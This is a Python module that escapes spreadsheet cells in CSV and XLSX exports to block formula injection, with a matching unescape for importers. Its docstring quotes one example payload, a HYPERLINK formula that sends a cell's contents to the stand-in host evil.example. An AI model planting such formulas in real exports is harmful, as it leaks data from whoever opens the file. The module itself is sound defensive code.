"""Every CSV and XLSX file learnloop produces is written through here.

A spreadsheet treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some
programs, a tab or carriage return followed by one) as a formula: a name like
``=HYPERLINK("https://evil.example/?"&A1,"x")`` typed into a profile would run on the HR
laptop that opens the export. Such text cells get a leading apostrophe, the marker
spreadsheets use for "text, not a formula". Numbers (also numeric text such as ``-2.5``)
cannot be formulas and stay as they are. The importers strip the apostrophe again
(:func:`unescape_cell`), so an exported file imports back unchanged.
"""

from __future__ import annotations

import csv
import datetime
import io
import re
from collections.abc import Iterable
from typing import Any, TextIO

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def escape_cell(value: Any) -> Any:
    """``value``, with an apostrophe in front when it is text a spreadsheet would run."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def unescape_cell(value: str) -> str:
    """The text :func:`escape_cell` was given (for importers reading an export back)."""
    if value.startswith("'") and value[1:].startswith(FORMULA_START):
        return value[1:]
    return value


class EscapingWriter:
    """``csv.writer`` whose every cell goes through :func:`escape_cell`."""

    def __init__(self, out: TextIO) -> None:
        self._writer = csv.writer(out)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([escape_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: TextIO) -> EscapingWriter:
    return EscapingWriter(out)


def xlsx_bytes(title: str, rows: Iterable[Iterable[Any]]) -> bytes:
    """One worksheet called ``title`` (cut to Excel's 31 characters) holding ``rows``."""
    from openpyxl import Workbook  # type: ignore[import-untyped]

    book = Workbook(write_only=True)
    sheet = book.create_sheet(title[:31])
    for row in rows:
        sheet.append(
            [
                # Excel has no time zones: a datetime is written as the wall-clock time.
                value.replace(tzinfo=None)
                if isinstance(value, datetime.datetime)
                else escape_cell(value)
                for value in row
            ]
        )
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
